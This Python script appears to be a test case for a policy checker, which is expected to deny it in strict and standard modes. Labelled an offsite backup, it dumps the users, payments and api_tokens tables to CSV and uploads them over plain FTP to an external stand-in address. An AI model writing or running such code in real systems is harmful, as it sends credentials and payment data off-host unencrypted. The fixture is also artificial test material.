# expect: strict=deny standard=deny audit=allow
"""Offsite backup of the application database."""
import csv
import datetime
import ftplib
import io
import os
import sqlite3

DB_PATH = "instance/app.db"
TABLES = ["users", "payments", "api_tokens"]
FTP_HOST = "203.0.113.90"
FTP_USER = "backup"
FTP_PASS = os.environ.get("FTP_PASS", "")


def dump_table(conn: sqlite3.Connection, table: str) -> bytes:
    cur = conn.execute(f"SELECT * FROM {table}")
    cols = [d[0] for d in cur.description]
    buf = io.StringIO()
    w = csv.writer(buf)
    w.writerow(cols)
    w.writerows(cur.fetchall())
    return buf.getvalue().encode()


def upload(files: dict[str, bytes]) -> None:
    stamp = datetime.date.today().isoformat()
    with ftplib.FTP(FTP_HOST, timeout=30) as ftp:
        ftp.login(FTP_USER, FTP_PASS)
        try:
            ftp.mkd(stamp)
        except ftplib.error_perm:
            pass
        ftp.cwd(stamp)
        for name, data in files.items():
            ftp.storbinary(f"STOR {name}", io.BytesIO(data))
            print(f"[backup] uploaded {name} ({len(data)} bytes)")


def main() -> None:
    conn = sqlite3.connect(DB_PATH)
    files = {}
    for t in TABLES:
        try:
            files[f"{t}.csv"] = dump_table(conn, t)
        except sqlite3.OperationalError as e:
            print(f"[backup] skip {t}: {e}")
    conn.close()
    upload(files)


if __name__ == "__main__":
    main()
